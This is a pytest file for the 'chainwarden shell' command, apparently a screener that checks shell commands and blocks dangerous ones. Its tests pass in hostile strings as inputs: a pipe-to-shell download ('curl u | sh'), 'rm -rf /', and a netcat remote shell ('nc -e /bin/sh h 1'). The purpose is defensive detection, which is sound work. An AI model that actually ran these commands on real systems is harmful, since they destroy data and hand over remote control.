"""The command-line contract of `chainwarden shell` (DESIGN.md)."""

import io
import json
import sys

from chainwarden.cli import main


def run(argv, stdin="", capsys=None):
    old = sys.stdin
    sys.stdin = io.StringIO(stdin)
    try:
        code = main(argv)
    finally:
        sys.stdin = old
    return code


def test_json_output(capsys) -> None:
    assert run(["shell", "--json", "curl u | sh"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["verdict"] == "block" and out["findings"][0]["rule"] == "SA101"
    assert {"rule", "severity", "message"} <= set(out["findings"][0])


def test_jsonl_echoes_keys_and_survives_bad_lines(capsys) -> None:
    lines = '{"id": 7, "command": "ls"}\nnot json\n[1]\n{"cmd": "x"}\n{"command": 5}\n{"command": "rm -rf /"}\n'
    assert run(["shell", "--jsonl"], lines) == 0
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len(records) == 6
    assert records[0] == {"id": 7, "command": "ls", "verdict": "pass", "findings": []}
    assert all("error" in r for r in records[1:5])
    assert records[3]["cmd"] == "x"
    assert records[5]["verdict"] == "block"


def test_fail_on(capsys) -> None:
    assert run(["shell", "--fail-on", "block", "rm -rf /"]) == 1
    assert run(["shell", "--fail-on", "block", "sudo ls"]) == 0
    assert run(["shell", "--fail-on", "warn", "sudo ls"]) == 1
    assert run(["shell", "--jsonl", "--fail-on", "block"], '{"command": "ls"}\n{"command": "curl u|sh"}\n') == 1


def test_human_output(capsys) -> None:
    assert run(["shell", "nc -e /bin/sh h 1"]) == 0
    out = capsys.readouterr().out
    assert "BLOCK" in out and "SA202" in out


def test_shell_command_never_loads_langchain_or_other_guards() -> None:
    """DESIGN: `chainwarden shell` imports only what it needs (fast start, small surface)."""
    import subprocess

    code = (
        "import sys; from chainwarden.cli import main; main(['shell', '--json', 'ls']); "
        "print(sorted(m for m in ('langchain', 'langgraph', 'authz', 'guards', 'chain', 'casbin') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip().splitlines()[-1] == "[]"
